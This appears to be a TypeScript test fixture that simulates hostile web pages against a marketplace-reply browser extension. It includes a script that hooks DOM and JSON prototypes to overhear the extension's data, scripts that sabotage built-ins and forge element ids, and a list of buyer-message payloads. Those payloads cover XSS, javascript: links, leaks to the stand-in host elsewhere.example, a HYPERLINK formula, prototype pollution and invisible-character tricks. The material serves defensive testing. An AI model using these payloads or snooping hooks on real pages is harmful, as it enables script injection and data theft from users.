import type { Reply } from '../marketplace/answer.ts';
import { box } from './victim.ts';

/** Scripts of hostile pages, as text: what they find of their page may be anything. */

/** A site that has nothing to do with any console: it frames whatever it is told to. */
export const elsewhere = (url: URL): Reply | null =>
  url.host === 'elsewhere.example'
    ? {
        status: 200,
        type: 'text/html',
        headers: {},
        body: `<!doctype html><title>elsewhere</title>${url.searchParams
          .getAll('frame')
          .map((one) => `<iframe src="${one.replaceAll('"', '')}"></iframe>`)
          .join('')}`,
      }
    : null;

/**
 * Elements whose ids and names are those that our scripts look for in their own world. The browser hangs its own object on what is
 * called `chrome` already, so a form of that name, too, would shut every extension out that comes after it: none is made here.
 */
export const forgedIds = `for (const id of ['browser', 'tuoda', 'tuodaTaught', 'tuodaLesson']) {
  const form = document.createElement('form');
  form.id = id;
  form.hidden = true;
  for (const name of ['runtime', 'alive', 'look', 'abort', 'id']) {
    const field = document.createElement('input');
    field.name = name;
    field.id = name;
    form.append(field);
  }
  document.body.append(form);
}`;

/** Listens in on everything that scripts are built of, before any script ran; \`stolen\` is what was overheard of ours. */
export const listening = `(() => {
  const stolen = (window.stolen = []);
  const note = (what, value) => {
    let text = '';
    try {
      text = typeof value === 'object' && value !== null ? (value.outerHTML ?? '') : String(value);
    } catch {}
    if (/tuoda|妥答|-extension:/i.test(text)) stolen[stolen.length] = what + ': ' + text.slice(0, 120);
  };
  const wrap = (owner, name, extra = () => {}) => {
    const own = owner[name];
    owner[name] = function (...given) {
      for (let at = 0; at < given.length; at += 1) note(name, given[at]);
      note(name + ' by', new Error().stack);
      extra(this, given);
      return own.apply(this, given);
    };
  };
  const { attachShadow } = Element.prototype;
  Element.prototype.attachShadow = function (how) {
    note('attachShadow', this);
    const root = attachShadow.call(this, { ...how, mode: 'open' });
    stolen[stolen.length] = 'a shadow root';
    return root;
  };
  for (const name of ['append', 'setAttribute', 'matches', 'querySelectorAll', 'getBoundingClientRect']) wrap(Element.prototype, name);
  for (const name of ['appendChild', 'insertBefore', 'contains']) wrap(Node.prototype, name);
  for (const name of ['push', 'map', 'filter']) wrap(Array.prototype, name);
  for (const name of ['stringify', 'parse']) wrap(JSON, name);
  for (const name of ['addEventListener', 'dispatchEvent']) wrap(EventTarget.prototype, name);
  for (const name of ['composedPath', 'preventDefault', 'stopImmediatePropagation']) wrap(Event.prototype, name);
  for (const name of ['setTimeout', 'postMessage', 'fetch', 'requestAnimationFrame']) wrap(window, name);
  wrap(Promise.prototype, 'then');
  wrap(CSSStyleDeclaration.prototype, 'setProperty');
  const text = Object.getOwnPropertyDescriptor(Node.prototype, 'textContent');
  Object.defineProperty(Node.prototype, 'textContent', {
    ...text,
    get() {
      note('textContent by', new Error().stack);
      return text.get.call(this);
    },
  });
  const Observer = MutationObserver;
  window.MutationObserver = class extends Observer {
    constructor(hear) {
      super(hear);
      note('MutationObserver by', new Error().stack);
    }
  };
  for (const type of ['message', 'wxt:content-script-started', 'input', 'beforeinput', 'keydown'])
    window.addEventListener(type, (event) => note(type, JSON.stringify([event.data ?? null, event.detail ?? null])), true);
})()`;

/** Breaks what the page itself needs no more once it stands, and what a guard would need. */
export const breaking = `(() => {
  const nothing = () => null;
  const forbid = class {
    constructor() {
      throw new Error('broken by the page');
    }
  };
  Object.defineProperty(Node.prototype, 'textContent', { get: () => 'forged', configurable: true });
  Object.defineProperty(HTMLElement.prototype, 'innerText', { get: () => 'forged', configurable: true });
  Object.defineProperty(Event.prototype, 'defaultPrevented', { get: () => false });
  Event.prototype.stopImmediatePropagation = nothing;
  Event.prototype.stopPropagation = nothing;
  Event.prototype.composedPath = () => [];
  EventTarget.prototype.addEventListener = nothing;
  Element.prototype.matches = () => false;
  Element.prototype.closest = nothing;
  Document.prototype.getSelection = nothing;
  window.MutationObserver = window.ResizeObserver = window.AbortController = forbid;
  window.Range = window.Highlight = forbid;
  performance.now = Date.now = () => 0;
  window.setTimeout = window.requestAnimationFrame = nothing;
  window.JSON = undefined;
})()`;

/** 200,000 changes and more, in the list of messages and beside it; says how many, and in how many turns of the page. */
export const flood = `new Promise((done) => {
  const list = document.getElementById('msgListContainer');
  const beside = (window.flooded = document.createElement('div'));
  document.body.append(beside);
  let changes = 0;
  let turns = 0;
  const step = () => {
    turns += 1;
    for (let at = 0; at < 1000; at += 1) {
      const one = document.createElement('i');
      (at % 2 ? beside : list).append(one);
      one.setAttribute('class', 'x' + at);
      one.remove();
      changes += 3;
    }
    if (changes < 200_000) setTimeout(step);
    else done({ changes, turns });
  };
  step();
})`;

/** What a buyer may write. */
export const unpleasant: readonly string[] = [
  '<img src="https://elsewhere.example/leak.png" onerror="window.hurt=1"><svg onload="window.hurt=1">',
  '"><script>window.hurt=1</script><iframe src="javascript:window.hurt=1"></iframe>',
  '<style>@import "https://elsewhere.example/leak.css"</style><base href="https://elsewhere.example/leak/">',
  '<form action="https://elsewhere.example/leak"><input name="q"><button>退款</button></form>',
  '[退款](javascript:window.hurt=1) https://elsewhere.example/leak?x={{7*7}}${7*7}',
  '退款\u202e单订的我 发出已\u202c 订单 231122-998877 \u2066\u2069\u200f',
  '退\u200b款\u200c！\u200d\ufeff\u00ad 碎\u2060了\u{e0041}\u{e0042}',
  '\ud83d半个\udc00 退款 \u0000\u0001\u001b[31m',
  '=HYPERLINK("https://elsewhere.example/leak","退款")',
  'Z̴͎̏ä̶́l̸g̵ò 退款 '.repeat(40),
  '__proto__ constructor toString 退款 {"__proto__":{"hurt":1}}',
];

/** Presses, keys and a form that no hand made. */
export const handless = `{
  const on = document.querySelector.call(document, '.reply-box .send-btn');
  for (const type of ['pointerdown', 'mousedown', 'pointerup', 'mouseup', 'click'])
    on.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true }));
  on.click();
  const form = document.createElement('form');
  ${box}.before(form);
  form.append(${box});
  form.dispatchEvent(new SubmitEvent('submit', { bubbles: true, cancelable: true }));
  form.replaceWith(${box});
  for (const init of [{ key: 'Enter', code: 'Enter', keyCode: 13 }, { key: '1', code: 'Digit1', altKey: true }, { key: '/', code: 'Slash' }])
    for (const type of ['keydown', 'keypress', 'keyup'])
      ${box}.dispatchEvent(new KeyboardEvent(type, { bubbles: true, cancelable: true, composed: true, ...init }));
}`;
